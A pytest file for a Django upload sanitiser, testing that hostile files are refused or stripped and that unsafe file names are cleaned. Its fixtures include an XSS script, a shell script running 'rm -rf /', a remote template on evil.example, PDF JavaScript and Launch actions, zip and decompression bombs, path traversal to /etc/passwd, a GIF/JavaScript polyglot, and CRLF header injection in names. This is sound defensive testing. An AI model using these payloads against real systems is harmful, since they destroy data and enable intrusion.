"""Files that would do harm: each is refused with a code, or kept without its sting."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from PIL import Image, PngImagePlugin

from backend.workspaces.models import FileKind
from backend.workspaces.uploads.images import PIXELS, reencoded
from backend.workspaces.uploads.sniffing import name_of, sniff, video_type
from tests.support.refusals import codes_of

SCRIPT = b"<script>alert('boo')</script>"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
RELATIONS = (
    '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" '
    'TargetMode="External"/></Relationships>'
)


def image(encoding: str, **save: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 20), "navy").save(out, encoding, **save)
    return out.getvalue()


def archive(entries: dict[str, bytes | str], comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, content in entries.items():
            zipped.writestr(name, content)
        zipped.comment = comment
    return out.getvalue()


def word(more: dict[str, bytes | str] | None = None, kind: str = f"{WORD}.main+xml") -> bytes:
    types = f'<Types><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'
    return archive({"[Content_Types].xml": types, "word/document.xml": "<w:document/>", **(more or {})})


def open_document(more: dict[str, bytes | str] | None = None) -> bytes:
    return archive({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>", **(more or {})})


def flood(width: int, height: int) -> bytes:
    """A PNG of a few hundred bytes that says it is huge."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


def text_bomb() -> bytes:
    """A PNG whose comment is 100 MB once it is unpacked."""
    plain = image("PNG")
    packed = b"Comment\0\0" + zlib.compress(b"a" * 100_000_000)
    chunk = struct.pack(">I", len(packed)) + b"zTXt" + packed + struct.pack(">I", zlib.crc32(b"zTXt" + packed))
    return plain[:33] + chunk + plain[33:]


def pictures_in_one() -> bytes:
    out = io.BytesIO()
    first, second = Image.new("RGB", (40, 20), "navy"), Image.new("RGB", (40, 20), "red")
    first.save(out, "MPO", save_all=True, append_images=[second])
    return out.getvalue()


def film(brand: bytes) -> bytes:
    return b"\x00\x00\x00\x18ftyp" + brand + b"\x00\x00\x02\x00isomiso2" + b"\0" * 64


def nested(depth: int) -> bytes:
    content = b"\0" * 1_000_000
    for n in range(depth):
        content = archive({f"{n}.zip": content})
    return content


PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"

REFUSED: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "a page as a photo": ("photo.jpg", lambda: b"<html>" + SCRIPT, "file_kind_refused"),
    "a page as text of another kind": ("page.html", lambda: b"<html>" + SCRIPT, "file_kind_refused"),
    "SVG with a script": ("logo.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>", (
        "file_kind_refused"
    )),
    "SVG as a photo": ("logo.png", lambda: b"<?xml version='1.0'?><svg>" + SCRIPT + b"</svg>", "file_kind_refused"),
    "a program as a photo": ("photo.png", lambda: b"MZ\x90\x00" + b"\0" * 500, "file_kind_refused"),
    "a program for Linux": ("plan.pdf", lambda: b"\x7fELF" + b"\0" * 500, "file_kind_refused"),
    "a script": ("run.sh", lambda: b"#!/bin/sh\nrm -rf /\n", "file_kind_refused"),
    "a shortcut": ("plan.lnk", lambda: b"L\0\0\0\x01\x14\x02\0" + b"\0" * 100, "file_kind_refused"),
    "a PDF behind a page": ("plan.pdf", lambda: b"<html>" + SCRIPT + b"</html>" + PDF, "file_kind_refused"),
    "a page behind the head of a PDF": ("plan.pdf", lambda: b"%PDF-1.4\n<html>" + SCRIPT + PDF[9:], "file_kind_refused"),
    "a PDF with JavaScript": ("plan.pdf", lambda: PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(x)>>"), (
        "file_has_program"
    )),
    "a PDF that starts programs": ("plan.pdf", lambda: PDF.replace(b"/Catalog", b"/Catalog/AA<</S/Launch>>"), (
        "file_has_program"
    )),
    "a PDF with a file inside": ("plan.pdf", lambda: PDF.replace(b"/Catalog", b"/Catalog/EmbeddedFile "), "file_has_program"),
    "an archive": ("all.zip", lambda: archive({"a.txt": "a"}), "file_kind_refused"),
    "an archive as a document": ("plan.docx", lambda: archive({"a.txt": "a"}), "file_kind_refused"),
    "an archive of archives": ("plan.docx", lambda: nested(5), "file_kind_refused"),
    "a bomb": ("plan.docx", lambda: word({"word/media/a.bin": b"\0" * 60_000_000}), "file_is_bomb"),
    "a bomb of an index": ("plan.docx", lambda: archive({
        "[Content_Types].xml": " " * 2_000_000 + f"{WORD}.main+xml", "noise": bytes(range(256)) * 200
    }), "file_is_bomb"),
    "many entries": ("plan.docx", lambda: word({f"word/{n}.xml": "" for n in range(5_001)}), "file_is_bomb"),
    "macros": ("plan.docx", lambda: word({"word/vbaProject.bin": b"x"}), "file_has_program"),
    "macros by kind": ("plan.docm", lambda: word(kind="application/vnd.ms-word.document.macroEnabled.main+xml"), (
        "file_has_program"
    )),
    "controls": ("plan.docx", lambda: word({"word/activeX/activeX1.bin": b"x"}), "file_has_program"),
    "a template from elsewhere": ("plan.docx", lambda: word({"word/_rels/settings.xml.rels": RELATIONS}), "file_has_program"),
    "macros of an open document": ("plan.odt", lambda: open_document({"Basic/Standard/Module1.xml": "x"}), "file_has_program"),
    "scripts of an open document": ("plan.odt", lambda: open_document({"Scripts/python/a.py": "x"}), "file_has_program"),
    "a way out of the archive": ("plan.docx", lambda: word({"../../etc/passwd": "x"}), "file_kind_refused"),
    "half an archive": ("plan.docx", lambda: word()[:60], "file_kind_refused"),
    "an archive behind a page": ("plan.docx", lambda: b"<html>" + SCRIPT + word(), "file_kind_refused"),
    "an old document": ("plan.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "file_kind_refused"),
    "a flood of pixels": ("photo.png", lambda: flood(60_000, 60_000), "image_unreadable"),
    "one pixel row too many": ("photo.png", lambda: flood(10_000, PIXELS // 10_000 + 1), "image_unreadable"),
    "pixels that are not there": ("photo.png", lambda: flood(4_000, 4_000), "image_unreadable"),
    "a comment that unpacks": ("photo.png", text_bomb, "image_unreadable"),
    "half a JPEG": ("photo.jpg", lambda: image("JPEG")[:300], "image_unreadable"),
    "half a PNG": ("photo.png", lambda: image("PNG")[:60], "image_unreadable"),
    "half a WebP": ("photo.webp", lambda: image("WEBP")[:40], "image_unreadable"),
    "an icon": ("photo.ico", lambda: image("ICO"), "file_kind_refused"),
    "a TIFF": ("photo.jpg", lambda: image("TIFF"), "file_kind_refused"),
    "a bitmap": ("photo.bmp", lambda: image("BMP"), "file_kind_refused"),
    "a film of Apple's": ("film.mp4", lambda: film(b"qt  "), "file_kind_refused"),
    "a film of no brand": ("film.mp4", lambda: film(b"evil"), "file_kind_refused"),
    "a photo of another kind in a film's box": ("photo.heic", lambda: film(b"heic"), "file_kind_refused"),
    "text with zeros": ("notes.txt", lambda: b"a\0b", "file_kind_refused"),
    "text in no letters": ("notes.txt", lambda: b"\xff\xfe\xfa", "file_kind_refused"),
}  # fmt: skip


@pytest.mark.parametrize("case", REFUSED)
def test_refused(case: str) -> None:
    name, make, code = REFUSED[case]
    content = make()
    assert video_type(content[:64]) is None
    with pytest.raises(ValidationError) as refused:
        sniff(name, content)
    assert codes_of(refused.value) == {code}


def told_by(encoding: str) -> bytes:
    """An image that says where it was taken, in all the ways its kind knows."""
    exif = Image.Exif()
    exif[0x010E] = "Lina at home"
    exif.get_ifd(0x8825)[1] = "N48.85"
    said: dict[str, Any] = {"exif": exif}
    if encoding == "PNG":
        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", "Lina at home")
        info.add_itxt("XML:com.adobe.xmp", "Lina at home")
        said["pnginfo"] = info
    elif encoding == "WEBP":
        said["xmp"] = b"Lina at home"
    else:
        said |= {"comment": b"Lina at home", "xmp": b"Lina at home"}
    return image(encoding, **said)


@pytest.mark.parametrize(("encoding", "kept"), [("JPEG", "JPEG"), ("PNG", "PNG"), ("WEBP", "WEBP"), ("GIF", "PNG")])
def test_images_tell_nothing(encoding: str, kept: str) -> None:
    taken = image("GIF", comment=b"Lina at home") if encoding == "GIF" else told_by(encoding)
    assert b"Lina at home" in taken
    result = sniff("a", taken).content
    drawn = Image.open(io.BytesIO(result))
    assert (drawn.format, drawn.size) == (kept, (40, 20))
    assert b"Lina" not in result
    assert b"N48.85" not in result
    assert {*drawn.info} <= {"jfif", "jfif_version", "jfif_unit", "jfif_density", "loop", "background", "timestamp"}
    assert drawn.getpixel((20, 10))[:3] == pytest.approx((0, 0, 128), abs=3)


@pytest.mark.parametrize("encoding", ["JPEG", "PNG", "GIF", "WEBP"])
@pytest.mark.parametrize("tail", [SCRIPT, archive({"evil.exe": "MZ"}), PDF], ids=["page", "archive", "pdf"])
def test_nothing_hangs_on_behind_an_image(encoding: str, tail: bytes) -> None:
    found = sniff("a.jpg", image(encoding) + tail)
    assert found.kind == FileKind.IMAGE
    assert tail[:8] not in found.content


def test_a_gif_that_is_a_script_too() -> None:
    gif = image("GIF")
    script = gif[:6] + b"/*" + gif[8:] + b"*/=1;alert(1)//"  # the width becomes the beginning of a comment
    found = sniff("a.gif", script)
    assert (found.media_type, b"alert" in found.content) == ("image/png", False)


def test_of_several_pictures_the_first() -> None:
    found = sniff("a.jpg", pictures_in_one())
    assert (found.media_type, Image.open(io.BytesIO(found.content)).format) == ("image/png", "PNG")


def test_good_documents_are_kept() -> None:
    for name, content, media_type in (
        ("plan.pdf", PDF, "application/pdf"),
        ("plan.docx", word(), WORD),
        ("plan.odt", open_document(), "application/vnd.oasis.opendocument.text"),
        ("notes.csv", b"a;b\n", "text/plain"),
    ):
        found = sniff(name, content)
        assert (found.kind, found.media_type, found.content) == (FileKind.DOCUMENT, media_type, content)
    assert [video_type(film(brand)[:64]) for brand in (b"isom", b"mp42")] == ["video/mp4"] * 2


@pytest.mark.parametrize(
    ("name", "media_type", "kept"),
    [
        ("river.JPG", "image/jpeg", "river.JPG"),
        ("anim.gif", "image/png", "anim.png"),
        ("photo.png", "image/jpeg", "photo.jpg"),
        ("page.html", "application/pdf", "page.html.pdf"),
        ("photo.exe", "image/jpeg", "photo.exe.jpg"),
        ("../../etc/passwd", "text/plain", "etc passwd.txt"),
        ("..\\..\\win.ini.txt", "text/plain", "win.ini.txt"),
        ("a\0b.pdf", "application/pdf", "a b.pdf"),
        ("gpj.\u202eexe.jpg", "image/jpeg", "gpj. exe.jpg"),
        ("CON<>|?*.pdf", "application/pdf", "CON.pdf"),
        ("x" * 5_000 + ".pdf", "application/pdf", "x" * 154 + ".pdf"),
        (".pdf", "application/pdf", "pdf.pdf"),
        ("", "image/png", "file.png"),
        ("line\r\nSet-Cookie: a=b.pdf", "application/pdf", "line Set-Cookie a=b.pdf"),
    ],
)
def test_names_are_harmless(name: str, media_type: str, kept: str) -> None:
    assert name_of(name, media_type) == kept


def test_a_large_photo_becomes_one_for_screens() -> None:
    out = io.BytesIO()
    Image.new("RGB", (8_000, 6_000), "navy").save(out, "JPEG")
    found = reencoded(out.getvalue())
    assert found
    assert Image.open(io.BytesIO(found[1])).size == (4_096, 3_072)
